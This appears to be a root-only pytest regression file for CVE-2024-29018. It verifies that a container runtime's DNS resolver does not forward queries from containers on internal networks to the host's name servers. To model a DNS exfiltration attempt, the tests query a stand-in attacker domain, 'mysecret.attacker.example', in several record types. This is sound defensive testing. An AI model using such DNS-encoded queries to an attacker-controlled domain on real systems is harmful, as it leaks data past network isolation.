"""CVE-2024-29018: a container on internal networks only sends nothing outside by way of the names it asks for.

Docker's resolver asked the host's servers for it, from the host, where its firewall had no say: whoever had the
attacker's domain served there read what the container encoded into names. Here nobody is asked for such a container;
servers that were given with ``--dns`` are asked from inside its sandbox, which has no way out.
"""

from __future__ import annotations

import asyncio
import os
import socket
from collections.abc import Iterator
from contextlib import ExitStack, contextmanager
from pathlib import Path

import pytest
from tests.fakes import dns
from tests.root.netns import Namespace, own_network

from carrack.linux import rtnetlink
from carrack.linux.netlink import Netlink
from carrack.network.names import host_servers
from carrack.network.names.client import Resolver
from carrack.network.names.view import View

pytestmark = pytest.mark.root

RESOLVER = ("127.0.0.11", 53)
SECRET = "mysecret.attacker.example"


@contextmanager
def hosts_servers() -> Iterator[list[dns.Server]]:
    """The servers that the host's resolv.conf names, on the loopback of this namespace, which stands for the host."""
    addresses = host_servers.servers(Path("/etc/resolv.conf").read_text())
    with ExitStack() as undo, Netlink() as netlink:
        found = []
        for address in addresses:
            if not address.startswith("127.") and ":" not in address:
                netlink.batch([rtnetlink.add_address(1, f"{address}/32")])
            if ":" not in address:
                found.append(dns.Server(lambda data: dns.respond(data, ["192.0.2.1"]), address, 53))
                undo.callback(found[-1].close)
        if not found:
            pytest.skip("the host has no IPv4 name server")
        yield found


def ask(data: bytes) -> dns.Answer:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(20)
        sock.connect(RESOLVER)
        sock.send(data)
        return dns.read(sock.recv(4096))


async def asked(view: View) -> list[dns.Answer]:
    """What a container with that view is told of the attacker's name, asked in every way there is."""
    resolver = Resolver()
    with Namespace() as inside:
        fds = resolver.sockets(inside.fd)
        try:
            await resolver.start()
            resolver.endpoint("net", "c1", ["web"], ["10.0.0.2"])
            resolver.attach("c1", fds, view)
            kinds = (dns.A, dns.AAAA, dns.TXT, dns.ANY, dns.PTR)
            queries = [dns.query(SECRET, kind, size=size) for kind in kinds for size in (0, 1232)]
            queries.append(dns.query("web." + SECRET))
            answers = [await asyncio.to_thread(inside.run, lambda data=data: ask(data)) for data in queries]
            streams = await asyncio.to_thread(inside.run, lambda: dns.ask_stream(RESOLVER, *queries))
            assert (await asyncio.to_thread(inside.run, lambda: ask(dns.query("web")))).texts == ["10.0.0.2"]
            return answers + [dns.read(answer) for answer in streams]
        finally:
            await resolver.close()
            for fd in fds:
                os.close(fd)


@own_network
def test_no_question_of_an_internal_network_leaves_the_host() -> None:
    with hosts_servers() as servers:
        answers = asyncio.run(asked(View(("net",), outside=False)))
        assert {answer.code for answer in answers} == {2}
        assert [server.seen for server in servers] == [[] for _ in servers]


@own_network
def test_nor_to_servers_of_its_own_which_only_the_host_reaches() -> None:
    with hosts_servers() as servers:
        view = View(("net",), host_servers.servers(Path("/etc/resolv.conf").read_text()), True, False)
        answers = asyncio.run(asked(view))
        assert {answer.code for answer in answers} == {2}
        assert [server.seen for server in servers] == [[] for _ in servers]


@own_network
def test_others_are_served_by_the_hosts_servers_even_on_its_loopback() -> None:
    with hosts_servers() as servers:
        answers = asyncio.run(asked(View(("net",))))
        assert {answer.code for answer in answers} == {0}
        assert len(servers[0].seen) == len(answers)
